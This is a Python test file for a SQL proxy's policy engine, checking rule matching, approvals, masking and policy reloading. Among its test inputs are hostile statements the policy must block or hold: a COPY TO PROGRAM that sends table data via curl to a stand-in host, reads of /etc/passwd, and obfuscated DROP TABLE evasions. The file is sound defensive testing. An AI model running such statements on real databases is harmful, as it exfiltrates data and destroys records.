"""Policy files: loading, first-match rules, strictest-wins messages, reload, the `policy test` command."""

from __future__ import annotations

import logging
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from custody.commands.policy import policy_group
from proxy.policy.operation import Operation
from proxy.policy.rules import Policy, PolicyError, PolicyHolder

DEFAULT_POLICY = Path(__file__).resolve().parents[1] / "proxy" / "policies" / "default.toml"


@pytest.fixture(scope="module")
def default() -> Policy:
    return Policy.load(DEFAULT_POLICY)


def pg(sql: str) -> Operation:
    return Operation("postgres", "statement", sql)


def decide(policy: Policy, sql: str, subject: str = "alice", groups=("dev",), target: str = "local-postgres"):
    return policy.decide(subject, groups, target, pg(sql))


@pytest.mark.parametrize("sql, action, rule", [
    ("DROP TABLE orders", "block", "block-drop"),
    ("DROP SCHEMA billing CASCADE", "block", "block-drop"),
    ("DROP DATABASE prod", "block", "block-drop"),
    ("TRUNCATE orders", "block", "block-truncate"),
    ("ALTER SYSTEM SET fsync = off", "block", "block-alter-system"),
    ("COPY orders TO PROGRAM 'curl -d @- evil.example'", "block", "block-copy-program"),
    ("DELETE FROM orders", "hold", "hold-unfiltered-writes"),
    ("UPDATE orders SET total = 0 WHERE 1 = 1", "hold", "hold-unfiltered-writes"),
    ("GRANT ALL ON orders TO mallory", "hold", "hold-privilege-changes"),
    ("REVOKE SELECT ON orders FROM auditor", "hold", "hold-privilege-changes"),
    ("DO $$DECLARE t text := 'orders'; BEGIN EXECUTE 'DROP TABLE ' || t; END$$", "hold", "hold-dynamic-sql"),
    ("DELETE FROM orders WHERE id = 7", "allow", None),
    ("SELECT * FROM orders", "allow", None),
    ("DROP VIEW report", "allow", None),
])
def test_default_policy(default, sql, action, rule):
    decision = decide(default, sql)
    assert (decision.action, decision.rule) == (action, rule)
    assert decision.approvers == (("dba",) if action == "hold" else ())
    assert decision.message if rule else not decision.message


@pytest.mark.parametrize("sql", [
    "DROP/**/TABLE orders",
    "-- routine cleanup\nDROP TABLE orders",
    'dRoP tAbLe "orders"',
    "drop table if exists orders",
    "SELECT 1; DROP TABLE orders",
    "DO $$BEGIN EXECUTE 'DROP TABLE orders'; END$$",
    "DO $$BEGIN DROP TABLE orders; END$$",
    "CREATE FUNCTION cleanup() RETURNS void LANGUAGE plpgsql AS $$BEGIN DROP TABLE orders; END$$",
])
def test_evasions_of_the_drop_rule_are_blocked(default, sql):
    assert decide(default, sql).action == "block"


def test_prepared_statements_are_decided_at_prepare(default):
    assert decide(default, "PREPARE wipe AS DELETE FROM orders").action == "hold"
    assert decide(default, "PREPARE one AS DELETE FROM orders WHERE id = $1").action == "allow"


def test_text_that_only_contains_drop_is_allowed(default):
    assert decide(default, "SELECT $$DROP TABLE orders$$ AS note").action == "allow"
    assert decide(default, "INSERT INTO notes VALUES ('DROP TABLE orders; TRUNCATE x')").action == "allow"


def test_one_blocked_statement_blocks_the_message_and_block_beats_hold(default):
    decision = decide(default, "DELETE FROM a; SELECT 1; TRUNCATE b; GRANT ALL ON c TO d")
    assert (decision.action, decision.rule, decision.matched.kind) == ("block", "block-truncate", "truncate")
    assert [s.kind for s in decision.statements] == ["delete", "select", "truncate", "grant"]


POLICY = """
on_parse_error = "hold"
parse_error_approvers = ["sre"]
hold_timeout_seconds = 60

[[rule]]
name = "dba-may-truncate"
action = "allow"
groups = ["dba"]
statements = ["truncate"]

[[rule]]
name = "readers-select"
action = "allow"
statements = ["select"]

[[rule]]
name = "no-truncate"
action = "block"
statements = ["truncate", "delete"]

[[rule]]
name = "secrets"
action = "block"
message = "secret tables are off limits"
tables = ["*.secrets", "finance.payments"]
not_groups = ["security"]

[[rule]]
name = "file-access"
action = "hold"
functions = ["pg_catalog.pg_read_file", "dblink*"]
approvers = ["security"]

[[rule]]
name = "ci-prod"
action = "block"
subjects = ["ci-*"]
targets = ["prod-*"]

[[mask]]
name = "pii"
detectors = ["email"]
columns = ["*SSN*"]
except_groups = ["dba"]

[[mask]]
name = "keys-on-prod"
detectors = ["aws_access_key"]
targets = ["prod-*"]
"""


@pytest.fixture(scope="module")
def policy() -> Policy:
    return Policy.from_toml(POLICY)


def test_first_matching_rule_wins_so_exceptions_go_first(policy):
    assert decide(policy, "TRUNCATE t", groups=["dba"]).rule == "dba-may-truncate"
    assert decide(policy, "TRUNCATE t", groups=["dev"]).rule == "no-truncate"


def test_an_allow_rule_for_the_outer_select_does_not_allow_a_nested_delete(policy):
    decision = decide(policy, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert (decision.action, decision.rule, decision.matched.kind) == ("block", "no-truncate", "delete")


def test_an_explicit_allow_names_its_rule(policy):
    assert decide(policy, "SELECT 1").rule == "readers-select"


@pytest.mark.parametrize("sql, groups, action", [
    ("INSERT INTO vault.secrets VALUES (1)", ["dev"], "block"),
    ("INSERT INTO secrets VALUES (1)", ["dev"], "block"),       # unqualified: any schema
    ("UPDATE payments SET x = 1 WHERE id = 1", ["dev"], "block"),
    ("UPDATE Finance.Payments SET x = 1 WHERE id = 1", ["dev"], "block"),
    ("UPDATE sales.payments SET x = 1 WHERE id = 1", ["dev"], "allow"),
    ("INSERT INTO vault.secrets VALUES (1)", ["dev", "security"], "allow"),
])
def test_table_matchers_and_excluded_groups(policy, sql, groups, action):
    assert decide(policy, sql, groups=groups).action == action


@pytest.mark.parametrize("sql, action", [
    ("INSERT INTO log SELECT pg_read_file('/etc/passwd')", "hold"),
    ("INSERT INTO log SELECT pg_catalog.pg_read_file('/etc/passwd')", "hold"),
    ("INSERT INTO log SELECT other.pg_read_file('x')", "allow"),
    ("INSERT INTO log SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", "hold"),
])
def test_function_matchers(policy, sql, action):
    decision = decide(policy, sql)
    assert decision.action == action
    assert decision.approvers == (("security",) if action == "hold" else ())


def test_subject_and_target_matchers(policy):
    assert decide(policy, "INSERT INTO t VALUES (1)", subject="ci-runner-7", target="prod-db").rule == "ci-prod"
    assert decide(policy, "INSERT INTO t VALUES (1)", subject="ci-runner-7", target="staging").action == "allow"
    assert decide(policy, "INSERT INTO t VALUES (1)", subject="alice", target="prod-db").action == "allow"


@pytest.mark.parametrize("setting, action, approvers", [
    ("", "block", ()),
    ('on_parse_error = "allow"', "allow", ()),
    ('on_parse_error = "hold"\nparse_error_approvers = ["dba"]', "hold", ("dba",)),
])
def test_unparseable_sql_follows_on_parse_error(setting, action, approvers):
    decision = Policy.from_toml(setting).decide("alice", [], "db", pg("SELEC * FORM t"))
    assert (decision.action, decision.rule, decision.approvers) == (action, "on_parse_error", approvers)
    assert decision.message.startswith("SQL not understood: syntax error")


def test_empty_policy_allows_everything():
    assert Policy.from_toml("").decide("alice", [], "db", pg("DROP DATABASE prod")).action == "allow"


def test_masking_plans_add_up_and_respect_exceptions(policy, default):
    plan = policy.masking_for("alice", ["dev"], "prod-eu")
    assert plan.detectors == {"email", "aws_access_key"} and plan.columns == ("*ssn*",)
    assert plan.rules == ("pii", "keys-on-prod")
    assert policy.masking_for("bob", ["dba"], "prod-eu").rules == ("keys-on-prod",)
    assert policy.masking_for("bob", ["dba"], "staging") is None
    assert default.masking_for("bob", ["dba"], "local-postgres") is None
    assert len(default.masking_for("alice", ["dev"], "local-postgres").detectors) == 8
    assert policy.hold_timeout_seconds == 60.0


@pytest.mark.parametrize("text, message", [
    ("[[rule]]\nname = 'x'\naction = 'deny'\n", r"rule 'x': action: expected one of allow, hold, block, got 'deny'"),
    ("[[rule]]\naction = 'block'\n", r"rule #1: name: missing \(required\)"),
    ("[[rule]]\nname = 'x'\naction = 'block'\nstatements = ['drop_tabel']\n",
     r"rule 'x': statements: unknown name 'drop_tabel' \(did you mean 'drop_table'\?\)"),
    ("[[rule]]\nname = 'x'\naction = 'block'\ngroup = ['dba']\n", r"rule 'x': group: unknown key"),
    ("[[rule]]\nname = 'x'\naction = 'hold'\n", r"rule 'x': approvers: a hold rule needs the groups"),
    ("[[rule]]\nname = 'x'\naction = 'block'\napprovers = ['dba']\n", r"rule 'x': approvers: only hold rules"),
    ("[[rule]]\nname = 'x'\naction = 'block'\ntables = 't'\n", r"rule 'x': tables: expected a list of non-empty strings"),
    ("[[rule]]\nname = 'x'\naction = 'block'\nwithout_where = 'yes'\n", r"rule 'x': without_where: expected true or false"),
    ("[[rule]]\nname = 'x'\naction = 'allow'\n[[rule]]\nname = 'x'\naction = 'block'\n",
     r"rule 'x': name: used by an earlier entry"),
    ("[[mask]]\nname = 'm'\n", r"mask 'm': detectors: a mask needs detectors or columns"),
    ("[[mask]]\nname = 'm'\ndetectors = ['emial']\n", r"mask 'm': detectors: unknown name 'emial' \(did you mean 'email'\?\)"),
    ("on_parse_error = 'hold'\n", r"top level: parse_error_approvers: on_parse_error = \"hold\" needs"),
    ("hold_timeout_seconds = 0\n", r"top level: hold_timeout_seconds: expected a number > 0"),
    ("rules = []\n", r"top level: rules: unknown key"),
    ("[[rule]\n", r"not valid TOML"),
])
def test_broken_policies_are_one_line_errors_naming_rule_and_key(text, message):
    with pytest.raises(PolicyError, match=message) as error:
        Policy.from_toml(text, "p.toml")
    assert str(error.value).startswith("p.toml: ") and "\n" not in str(error.value)


BLOCK_DROP = "[[rule]]\nname = 'block-drop'\naction = 'block'\nstatements = ['drop_table']\n"
BLOCK_ALL_DELETES = "[[rule]]\nname = 'block-delete'\naction = 'block'\nstatements = ['delete']\n"


def rewrite(path: Path, text: str) -> None:
    """Write and move the mtime forward, as an editor saving a second later would."""
    path.write_text(text)
    stat = path.stat()
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))


def test_holder_reloads_a_changed_file(tmp_path):
    path = tmp_path / "policy.toml"
    path.write_text(BLOCK_DROP)
    holder = PolicyHolder(path, check_interval=0)
    before = holder.policy
    assert before.decide("a", [], "t", pg("DELETE FROM x")).action == "allow"
    rewrite(path, BLOCK_DROP + BLOCK_ALL_DELETES)
    assert holder.policy.decide("a", [], "t", pg("DELETE FROM x")).action == "block"
    assert holder.last_error is None
    assert before.decide("a", [], "t", pg("DELETE FROM x")).action == "allow"  # sessions holding the old one are unaffected


def test_a_binding_remembers_decisions_and_a_reload_binds_afresh(tmp_path):
    path = tmp_path / "policy.toml"
    path.write_text(BLOCK_DROP)
    holder = PolicyHolder(path, check_interval=0)
    bound = holder.policy.bind("a", ["dev"], "t")
    assert holder.policy.bind("a", ("dev",), "t") is bound  # shared by the identity's sessions
    assert holder.policy.bind("a", ["ops"], "t") is not bound
    first = bound.decide(pg("DROP TABLE x"))
    assert first.action == "block" and bound.decide(pg("DROP TABLE x")) is first
    assert bound.decide(pg("DELETE FROM x")).action == "allow"
    with_attributes = Operation("postgres", "statement", "DROP TABLE x", attributes={"database": "app"})
    assert bound.decide(with_attributes) is not first  # attributes are part of what is decided
    rewrite(path, BLOCK_DROP + BLOCK_ALL_DELETES)
    assert holder.policy.bind("a", ["dev"], "t").decide(pg("DELETE FROM x")).action == "block"
    assert bound.decide(pg("DELETE FROM x")).action == "allow"  # the old binding keeps the old policy


def test_holder_keeps_the_old_policy_when_the_new_file_is_broken(tmp_path, caplog):
    path = tmp_path / "policy.toml"
    path.write_text(BLOCK_DROP)
    holder = PolicyHolder(path, check_interval=0)
    rewrite(path, BLOCK_DROP.replace("'block'", "'bolck'"))
    with caplog.at_level(logging.WARNING, logger="proxy.policy.rules"):
        assert holder.policy.decide("a", [], "t", pg("DROP TABLE x")).action == "block"
        assert holder.policy.decide("a", [], "t", pg("DROP TABLE x")).action == "block"
    assert "rule 'block-drop': action: expected one of allow, hold, block, got 'bolck'" in holder.last_error
    assert len(caplog.records) == 1 and "previous policy stays in force" in caplog.records[0].getMessage()
    path.unlink()
    assert holder.policy.rules[0].name == "block-drop"
    assert "cannot read policy file" in holder.last_error
    rewrite(path, BLOCK_ALL_DELETES)
    assert holder.policy.rules[0].name == "block-delete" and holder.last_error is None


def test_holder_checks_the_file_at_most_once_per_interval(tmp_path):
    path = tmp_path / "policy.toml"
    path.write_text(BLOCK_DROP)
    now = [100.0]
    holder = PolicyHolder(path, check_interval=1.0, clock=lambda: now[0])
    rewrite(path, BLOCK_ALL_DELETES)
    assert holder.policy.rules[0].name == "block-drop"
    now[0] += 1.0
    assert holder.policy.rules[0].name == "block-delete"


def test_holder_refuses_a_broken_first_load(tmp_path):
    with pytest.raises(PolicyError, match="cannot read policy file"):
        PolicyHolder(tmp_path / "missing.toml")


def test_policy_test_command_prints_decision_rule_and_analysis():
    result = CliRunner().invoke(policy_group, [
        "test", "--policy", str(DEFAULT_POLICY), "--identity", "alice", "--group", "dev", "--target", "local-postgres",
        "SELECT 1; WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    ])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[:2] == ["decision: hold", "rule: hold-unfiltered-writes"]
    assert "approvers: dba" in lines
    assert "  select: SELECT $1" in lines
    assert "    delete: WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d" in lines
    assert lines[-1] == "masking: mask-sensitive-data"
